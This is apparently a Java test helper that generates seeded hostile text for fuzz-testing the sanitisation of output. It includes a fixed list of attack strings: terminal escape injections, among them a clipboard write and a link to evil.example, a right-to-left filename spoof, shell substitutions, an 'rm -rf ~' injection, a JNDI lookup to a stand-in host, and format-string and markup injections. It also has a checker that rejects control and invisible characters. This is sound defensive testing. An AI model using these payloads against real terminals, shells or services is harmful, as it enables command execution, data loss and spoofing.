package dev.sidelight;

import java.util.HexFormat;
import java.util.List;
import java.util.Random;
import java.util.stream.Stream;

/** Text that means harm, made up from a seed, and what of it must never be shown. */
public final class Hostile {
  /** Pieces of escape sequences, of invisible and of misleading text. */
  private static final int[] CHARACTERS = {
    0x00, 0x07, 0x08, 0x09, 0x0a, 0x0d, 0x0e, 0x1b, 0x7f, 0x84, 0x90, 0x9b, 0x9c, 0x9d, 0x9f, 0xad,
    0x300, 0x61c, 0x200b, 0x200c, 0x200d, 0x200e, 0x200f, 0x2028, 0x2029, 0x202a, 0x202b, 0x202c,
    0x202d, 0x202e, 0x2060, 0x2066, 0x2067, 0x2068, 0x2069, 0x3164, 0xd800, 0xdc00, 0xfe0f, 0xfeff,
    0xfff9, 0x1f3f4, 0x1f600, 0xe0001, 0xe0041, 0xe007f, 0x10ffff, '[', ']', '\\', ';', '?', 'P',
    '_', '^', 'c', 'm', 'h', '0', '1', '2', ' ', 'a', 'Z', '漢', '"', '\'', '&', '<', '%', '$'
  };

  /** Whole attacks: on terminals, on shells, on markup, on formats. */
  private static final List<String> ATTACKS =
      List.of(
          "\u001b]0;owned\u0007",
          "\u001b]52;c;cm0gLXJm\u0007",
          "\u001b]8;;http://evil.example\u001b\\here\u001b]8;;\u001b\\",
          "\u001bP$q\"p\u001b\\",
          "\u009d2;owned\u009c",
          "\u001b[2J\u001b[31m",
          "\u001b[?1049l\u001bc",
          "\u001b_Gi=1;AAAA\u001b\\",
          "\u001b]777;notify;a;b\u0007",
          "\u202egnp.exe\u202c",
          "a" + "\u0301".repeat(60),
          "\ud83c\udff4" + "\udb40\udc65\udb40\udc6e\udb40\udc7f",
          "$(touch /tmp/owned)",
          "`touch /tmp/owned`",
          "'; rm -rf ~; '",
          "\"; display dialog \"x",
          "--help",
          "#{l:x}#(touch /tmp/owned)",
          "%s%n%x",
          "{0}${jndi:ldap://evil.example}",
          "<b onclick=x>&amp;",
          "line\r\nx: y\n\nz",
          "x".repeat(1_500));

  private final Random random;

  public Hostile(long seed) {
    random = new Random(seed);
  }

  /** {@return texts each of which is one attack; some would be too long as parts of others} */
  public static List<String> attacks() {
    var more =
        Stream.of(
            "-u critical -h int:value:1", "-e", "%d\\n\\033[31m\\u001b[31m", "y".repeat(10_000));
    return Stream.concat(ATTACKS.stream(), more).toList();
  }

  /** {@return the next text; now and then it is harmless} */
  public String text() {
    var text = new StringBuilder();
    int pieces = random.nextInt(12);
    for (int i = 0; i < pieces; i++) {
      if (random.nextInt(4) == 0) text.append(ATTACKS.get(random.nextInt(ATTACKS.size())));
      else text.appendCodePoint(CHARACTERS[random.nextInt(CHARACTERS.length)]);
    }
    return text.toString();
  }

  /** {@return the JSON of the text, each character written as it is or by its number} */
  public String json(String text) {
    var json = new StringBuilder("\"");
    for (int i = 0; i < text.length(); i++) {
      char c = text.charAt(i);
      boolean needsNumber = c < 0x20 || c == '"' || c == '\\' || Character.isSurrogate(c);
      if (needsNumber || random.nextInt(3) == 0) {
        json.append("\\u").append(HexFormat.of().toHexDigits(c));
      } else {
        json.append(c);
      }
    }
    return json.append('"').toString();
  }

  /** Throws if the text holds what drives a terminal, reorders what is read, or hides. */
  public static void mustNotBeIn(String text) {
    int marks = 0;
    for (int i = 0; i < text.length(); ) {
      int c = text.codePointAt(i);
      i += Character.charCount(c);
      marks = Character.getType(c) == Character.NON_SPACING_MARK ? marks + 1 : 0;
      if (isIn(c) || marks > 9) throw new AssertionError("U+%04X in \"%s\"".formatted(c, text));
    }
  }

  /** Joiners and variation selectors are not: honest emoji and scripts need them. */
  private static boolean isIn(int c) {
    return c < 0x20
        || (c >= 0x7f && c <= 0x9f)
        || c == 0xad
        || c == 0x61c
        || c == 0x200b
        || c == 0x200e
        || c == 0x200f
        || (c >= 0x2028 && c <= 0x202e)
        || (c >= 0x2060 && c <= 0x206f)
        || c == 0x3164
        || (c >= 0xd800 && c <= 0xdfff)
        || c == 0xfeff
        || (c >= 0xfff9 && c <= 0xfffb)
        || (c >= 0xe0000 && c < 0xe0020);
  }
}
